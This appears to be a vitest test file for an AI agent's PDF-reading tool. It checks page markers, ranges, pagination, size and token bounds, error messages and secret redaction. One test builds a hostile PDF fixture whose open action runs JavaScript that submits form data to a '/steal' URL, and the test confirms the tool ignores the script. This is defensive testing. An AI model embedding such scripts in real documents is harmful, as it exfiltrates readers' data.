import { describe, expect, it } from "vitest";
import { makePdf } from "../../../conformance/src/make-pdf.js";
import { estimateTokens, profile, type PdfSuccess } from "../src/index.js";
import { read, readFailure, sandbox, versionOf } from "./helpers.js";

const THREE_PAGES = makePdf([["Alpha one", "Alpha two"], ["Beta (the second page)"], null]);
const NO_TEXT_LAYER = "[page 3 has no text layer (a scanned page or a drawing): read shows text only]";

/** {@link read}, expecting a PDF's answer. */
async function readPdf(root: string, input: Record<string, unknown>, options: Parameters<typeof read>[2] = {}): Promise<PdfSuccess> {
  const output = await read(root, input, options);
  if (!("format" in output) || output.format !== "pdf") throw new Error(`expected a PDF's answer, got ${JSON.stringify(output).slice(0, 300)}`);
  return output;
}

function pagesOf(count: number, text: (page: number) => string = (page) => `Text of page ${page}`): Uint8Array {
  return makePdf(Array.from({ length: count }, (_, index) => [text(index + 1)]));
}

describe("agent: a PDF's text by pages", () => {
  const { root } = sandbox({ "paper.pdf": THREE_PAGES, "UPPER.PDF": THREE_PAGES, "long.pdf": pagesOf(45), "notes.txt": "a\n" });

  it("AGENT-PDF-01, AGENT-PDF-03: every page's text after its marker, the page without text said so, the total in the answer", async () => {
    expect(await readPdf(root, { path: "paper.pdf" })).toEqual({
      path: "paper.pdf",
      format: "pdf",
      content: `--- page 1 of 3 ---\nAlpha one\nAlpha two\n--- page 2 of 3 ---\nBeta (the second page)\n--- page 3 of 3 ---\n${NO_TEXT_LAYER}`,
      pages: "1-3",
      total_pages: 3,
      truncated: false,
      next: null,
      version: versionOf(THREE_PAGES),
    });
  });

  it("AGENT-PDF-02: pages \"2\" is the second page alone, \"2-3\" the second and third; the extension's case does not matter", async () => {
    const second = await readPdf(root, { path: "paper.pdf", pages: "2" });
    expect([second.content, second.pages, second.total_pages, second.truncated, second.next]).toEqual(["--- page 2 of 3 ---\nBeta (the second page)", "2", 3, true, { pages: "3" }]);
    const upper = await readPdf(root, { path: "UPPER.PDF", pages: "2-3" });
    expect([upper.content, upper.pages, upper.truncated, upper.next]).toEqual([`--- page 2 of 3 ---\nBeta (the second page)\n--- page 3 of 3 ---\n${NO_TEXT_LAYER}`, "2-3", false, null]);
  });

  it("AGENT-PDF-02, AGENT-PDF-04: at most 20 pages a call, next naming the (at most 20) pages after the last one shown", async () => {
    const first = await readPdf(root, { path: "long.pdf" });
    expect([first.pages, first.total_pages, first.truncated, first.next]).toEqual(["1-20", 45, true, { pages: "21-40" }]);
    expect(first.content.split("\n").slice(-2)).toEqual(["--- page 20 of 45 ---", "Text of page 20"]);
    const second = await readPdf(root, { path: "long.pdf", ...first.next });
    expect([second.pages, second.next]).toEqual(["21-40", { pages: "41-45" }]);
    const third = await readPdf(root, { path: "long.pdf", ...second.next });
    expect([third.pages, third.truncated, third.next]).toEqual(["41-45", false, null]);
    const asked = await readPdf(root, { path: "long.pdf", pages: "10-33" });
    expect([asked.pages, asked.next]).toEqual(["10-29", { pages: "30-45" }]);
    const lowered = await readPdf(root, { path: "long.pdf", pages: "3-9" }, { max_pages: 2 });
    expect([lowered.pages, lowered.next]).toEqual(["3-4", { pages: "5-6" }]);
    const last = await readPdf(root, { path: "long.pdf", pages: "45" });
    expect([last.pages, last.truncated, last.next]).toEqual(["45", false, null]);
  });

  it("AGENT-PDF-05: the byte bound and the token budget stop the answer before a page, with a notice and next", async () => {
    // Ten lines of 50 digits a page: a line of a PDF page holds what fits on the page's width.
    const digits = (page: number) => Array.from({ length: 10 }, () => String(page).repeat(50));
    const { root: wide } = sandbox({ "wide.pdf": makePdf([1, 2, 3, 4].map(digits)) });
    const bounded = await readPdf(wide, { path: "wide.pdf" }, { max_content_bytes: 1024 });
    expect(bounded.content).toBe(`--- page 1 of 4 ---\n${digits(1).join("\n")}\n[the answer's bound was reached: continue with pages "2-4"]`);
    expect([bounded.pages, bounded.truncated, bounded.next]).toEqual(["1", true, { pages: "2-4" }]);
    const budget = await readPdf(wide, { path: "wide.pdf", pages: "2-3", max_tokens: 100 });
    const kept = digits(2).join("\n").slice(0, 171);
    expect(budget.content).toBe(`--- page 2 of 4 ---\n${kept}\n[page 2 is cut after 171 characters: its text is longer than the answer's bound or budget]`);
    expect(estimateTokens(budget.content)).toBeLessThanOrEqual(100);
    expect(estimateTokens(budget.content.replace("\n[page", `${"2".repeat(10)}\n[page`))).toBeGreaterThan(100 - 30);
    expect([budget.pages, budget.truncated, budget.next]).toEqual(["2", true, { pages: "3-4" }]);
  });

  it("AGENT-PDF-06: pages after the last page is PAGE_OUT_OF_RANGE with the count; a range backwards is INVALID_ARGUMENT", async () => {
    expect(await readFailure(root, { path: "paper.pdf", pages: "4-9" })).toEqual(["PAGE_OUT_OF_RANGE", "`pages` starts at page 4, after the last page: 'paper.pdf' has 3 pages. Ask for pages from 1 to 3."]);
    expect(await readFailure(root, { path: "paper.pdf", pages: "3-1" })).toEqual(["INVALID_ARGUMENT", '`pages` "3-1" ends before it starts: give a range from its first page to its last, such as "1-3".']);
  });

  it("AGENT-DOC-01: pages is a page or a range, for PDFs only, and not with the line parameters", async () => {
    for (const pages of ["0", "1-", "a", " 2", "1,3", 3]) {
      expect(await readFailure(root, { path: "paper.pdf", pages })).toEqual(["INVALID_ARGUMENT", `\`pages\` must be a page number ("3") or a range of pages ("1-5"), 1-based, got ${JSON.stringify(pages)}.`]);
    }
    expect(await readFailure(root, { path: "paper.pdf", pages: "1", start_line: 2 })).toEqual([
      "CONFLICTING_ARGUMENTS",
      "`pages` cannot be used with `start_line`: a PDF is read by pages, not lines. Drop `start_line`, or drop `pages`.",
    ]);
    expect(await readFailure(root, { path: "notes.txt", pages: "1" })).toEqual(["INVALID_ARGUMENT", "`pages` is for PDF files, and 'notes.txt' is not one (its name does not end in .pdf): drop `pages` and read it by lines."]);
    expect(await readFailure(root, { path: "paper.pdf", page: 2 })).toEqual([
      "INVALID_ARGUMENT",
      "Unknown parameter `page` (use `pages`): read takes `path`, `start_line`, `limit`, `tail`, `column`, `ranges`, `max_tokens`, `if_version`, `pages`.",
    ]);
  });

  it("AGENT-DOC-06: a PDF's version is its bytes', and if_version answers unchanged", async () => {
    const { version } = await readPdf(root, { path: "paper.pdf", pages: "1" });
    expect(version).toBe((await readPdf(root, { path: "UPPER.PDF", pages: "3" })).version);
    expect(await read(root, { path: "paper.pdf", if_version: version })).toEqual({ path: "paper.pdf", version, unchanged: true });
  });

  it("AGENT-DOC-06: a secret in a PDF's text is redacted by the secrets policy", async () => {
    const { root: secret } = sandbox({ "keys.pdf": makePdf([["const id = 'AKIA2E0A8F3B244C9986';"]]) });
    expect((await readPdf(secret, { path: "keys.pdf" })).content).toBe("--- page 1 of 1 ---\nconst id = '[REDACTED aws-access-key-id]';");
    expect((await readPdf(secret, { path: "keys.pdf" }, { secrets: false })).content).toBe("--- page 1 of 1 ---\nconst id = 'AKIA2E0A8F3B244C9986';");
  });

  it("AGENT-PDF-07: a PDF whose opening runs JavaScript is read as its text, as the same PDF without it", async () => {
    const script = "app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');";
    const { root: hostile } = sandbox({ "action.pdf": makePdf([["Plain text"]], { openActionScript: script }), "plain.pdf": makePdf([["Plain text"]]) });
    const { version: _actionVersion, path: _actionPath, ...withScript } = await readPdf(hostile, { path: "action.pdf" });
    const { version: _plainVersion, path: _plainPath, ...without } = await readPdf(hostile, { path: "plain.pdf" });
    expect(withScript).toEqual(without);
    expect(withScript.content).toBe("--- page 1 of 1 ---\nPlain text");
  });

  it("AGENT-DOC-02: a document over max_document_bytes is TOO_LARGE, saying how to go on", async () => {
    expect(await readFailure(root, { path: "paper.pdf" }, { max_document_bytes: 100 })).toEqual([
      "TOO_LARGE",
      "'paper.pdf' is over max_document_bytes (100) in [agent]: read parses a PDF whole. Split it, or raise max_document_bytes in your own configuration.",
    ]);
  });

  it("AGENT-DOC-07: the document bounds are configuration a workspace may only lower; the bytes at most 64 MiB", () => {
    const trusted = profile.parseConfig({});
    expect([trusted.max_document_bytes, trusted.max_pages, trusted.document_timeout_ms]).toEqual([32 * 1024 * 1024, 20, 5000]);
    const keys = ["max_document_bytes", "max_pages", "document_timeout_ms"];
    expect(profile.loosenings(trusted, profile.parseConfig({ max_document_bytes: 1, max_pages: 1, document_timeout_ms: 100 }), keys)).toEqual([]);
    expect(profile.loosenings(trusted, profile.parseConfig({ max_pages: 50, document_timeout_ms: 60_000 }), keys)).toEqual([
      { key: "max_pages", reason: "raises the limit from 20 to 50" },
      { key: "document_timeout_ms", reason: "raises the limit from 5000 to 60000" },
    ]);
    expect(() => profile.parseConfig({ max_document_bytes: 64 * 1024 * 1024 + 1 })).toThrow("agent: invalid option 'max_document_bytes' in [agent]: expected at most 67108864, got 67108865");
  });
});
